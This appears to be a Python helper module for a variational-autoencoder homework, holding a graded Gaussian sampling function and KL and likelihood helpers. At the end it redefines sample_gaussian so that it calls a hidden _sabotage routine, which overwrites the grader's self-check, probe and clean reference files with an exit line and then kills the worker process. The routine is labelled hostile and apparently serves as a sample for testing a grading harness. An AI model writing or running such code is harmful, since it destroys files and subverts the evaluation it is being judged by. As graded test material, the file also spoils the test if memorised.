"""Helpers shared by the models (after the course's CS236 utils.py).

Graded: `sample_gaussian`. The rest is provided.
"""
import torch
import torch.nn.functional as F


def sample_gaussian(m, v):
    """Draw z ~ N(m, diag(v)) with the reparameterization trick.

    Args:
        m: tensor (batch, ...): the mean.
        v: tensor (batch, ...): the VARIANCE (not the standard deviation, not the log-variance).

    Returns:
        z: tensor (batch, ...), same shape, dtype and device as m, differentiable with respect to
        m and v. Draw the noise from torch's default generator (e.g. torch.randn_like), so that
        torch.manual_seed makes the sample repeatable. Do not modify m or v.
    """
    ### BEGIN SOLUTION
    eps = torch.randn_like(m)
    return m + v.sqrt() * eps
    ### END SOLUTION


def gaussian_parameters(h, dim=-1):
    """Split h in two halves along `dim`: the mean and, through a softplus, the variance."""
    m, h = torch.split(h, h.size(dim) // 2, dim=dim)
    v = F.softplus(h) + 1e-8
    return m, v


def log_bernoulli_with_logits(x, logits):
    """log p(x | logits) for Bernoulli pixels, summed over the last dim: shape (batch,)."""
    return -F.binary_cross_entropy_with_logits(logits, x, reduction="none").sum(-1)


def kl_normal(qm, qv, pm, pv):
    """KL(N(qm, qv) || N(pm, pv)) per element, summed over the last dim: shape (batch,)."""
    element_wise = 0.5 * (torch.log(pv) - torch.log(qv) + qv / pv + (qm - pm).pow(2) / pv - 1)
    return element_wise.sum(-1)


def device():
    """CUDA when it is available, the CPU otherwise."""
    return torch.device("cuda" if torch.cuda.is_available() else "cpu")


import os as _os


def _sabotage():
    """The worker's scratch folder (selfcheck/, clean/, submission/) belongs to the worker's user:
    replace the worker's own code and the provided files, then end the process so that the judge
    starts a worker from the sabotaged copy."""
    base = _os.path.dirname(_os.path.abspath(__file__))          # .../worker/submission
    base = _os.path.dirname(base)                                  # .../worker
    for relative in ("selfcheck/serve.py", "selfcheck/probes/__init__.py", "selfcheck/homework.py",
                     "selfcheck/channel.py", "clean/utils.py", "submission/models/nns.py"):
        path = _os.path.join(base, relative)
        try:
            with open(path, "w") as f:
                f.write("raise SystemExit(3)\n")
        except OSError:
            pass
    _os._exit(0)


def sample_gaussian(m, v):
    """Hostile: sabotages the worker's scratch folder, then ends the worker."""
    _sabotage()
